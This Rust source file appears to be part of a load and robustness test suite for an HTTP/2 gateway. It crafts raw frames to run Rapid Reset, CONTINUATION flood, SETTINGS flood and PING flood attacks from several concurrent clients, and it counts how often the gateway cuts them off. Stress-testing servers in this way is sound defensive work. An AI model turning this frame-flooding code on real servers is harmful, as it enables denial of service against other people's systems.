//! Attacks by HTTP/2, as frames made by hand (RFC 9113 §4.1). What the gateway does with the attackers is its business, as
//! long as its memory and the other clients are well.

use std::time::Duration;

use fastrand::Rng;
use postern_tests::client::frames::{
    Block, CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, frame,
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{Instant, timeout_at};

use super::names::host;
use super::world::{How, Tls, World};
use crate::order::{Count, Spell};

/// Attackers at the same time.
const ATTACKERS: usize = 4;

/// Frames that are sent in one go.
const BATCH: usize = 64;

/// What an attacker leaves between two goes. It is one machine among many; what it must not have is all of a processor.
const PAUSE: Duration = Duration::from_millis(20);

/// Attacks for so long.
pub(crate) fn start(world: &World, what: Spell, lasts: Duration) {
    let ends = Instant::now() + lasts;
    let mut rng = Rng::with_seed(world.target().seed ^ 0x4174_746b);
    for _ in 0..ATTACKERS {
        let (world, mut rng) = (world.clone(), rng.fork());
        tokio::spawn(async move {
            while Instant::now() < ends {
                let number = world.names().pick(&mut rng);
                let how = How { http2: true, resuming: true, small_buffer: false };
                if let Some((stream, _)) = world.handshake(number, how).await {
                    world.tally().count(Count::Attacks);
                    // An error is the gateway's way to end it.
                    if let Ok(Err(_cut)) = timeout_at(ends, Box::pin(attack(stream, number, what))).await {
                        world.tally().count(Count::AttacksCut);
                    }
                }
                tokio::time::sleep(Duration::from_millis(200)).await;
            }
        });
    }
}

/// Attacks until the gateway ends the connection.
async fn attack(mut stream: Tls, number: usize, what: Spell) -> std::io::Result<()> {
    stream.write_all(PREFACE).await?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    let host = host(number);
    let mut next_stream = 1;
    if what == Spell::ContinuationFlood {
        stream.write_all(&frame(HEADERS, END_STREAM, next_stream, &request(&host))).await?;
    }
    loop {
        stream.write_all(&batch(what, &host, &mut next_stream)).await?;
        tokio::time::sleep(PAUSE).await;
        if matches!(what, Spell::RapidReset | Spell::ContinuationFlood) {
            take_in(&mut stream).await?;
        }
    }
}

/// Reads what is there, so that it is the attack that counts and not a client that doesn't read; an error at the end.
async fn take_in(stream: &mut Tls) -> std::io::Result<()> {
    let mut buffer = vec![0; 16 * 1_024];
    let soon = Instant::now() + Duration::from_millis(1);
    match timeout_at(soon, stream.read(&mut buffer)).await {
        Ok(Ok(0)) => Err(std::io::ErrorKind::UnexpectedEof.into()),
        Ok(read) => read.map(drop),
        Err(_nothing) => Ok(()),
    }
}

/// Some frames of an attack.
fn batch(what: Spell, host: &str, next_stream: &mut u32) -> Vec<u8> {
    let mut frames = Vec::new();
    for index in 0..BATCH {
        match what {
            Spell::RapidReset => {
                frames.extend(frame(HEADERS, END_STREAM | END_HEADERS, *next_stream, &request(host)));
                // The error is CANCEL.
                frames.extend(frame(RST_STREAM, 0, *next_stream, &8_u32.to_be_bytes()));
                *next_stream += 2;
            }
            Spell::ContinuationFlood => frames.extend(frame(CONTINUATION, 0, *next_stream, &field(index))),
            Spell::SettingsFlood => frames.extend(frame(SETTINGS, 0, 0, &[])),
            Spell::PingFlood | Spell::Scan | Spell::Crawl { .. } => frames.extend(frame(PING, 0, 0, &[7; 8])),
        }
    }
    frames
}

/// The header block of GET of /.
fn request(host: &str) -> Vec<u8> {
    Block::request("GET", "https", host, "/").into_bytes()
}

/// A field that is not indexed, with a new name of one byte and a value of a hundred.
fn field(index: usize) -> Vec<u8> {
    [&[0x00, 1, b'a' + u8::try_from(index % 26).unwrap_or_default(), 100][..], &[b'v'; 100]].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_reset_is_of_a_stream_of_its_own() {
        let mut next = 1;
        let frames = batch(Spell::RapidReset, "a.test", &mut next);
        assert_eq!(next as usize, 1 + 2 * BATCH);
        assert_eq!(frames.len(), BATCH * (9 + 7 + 6 + 9 + 4));
    }
}
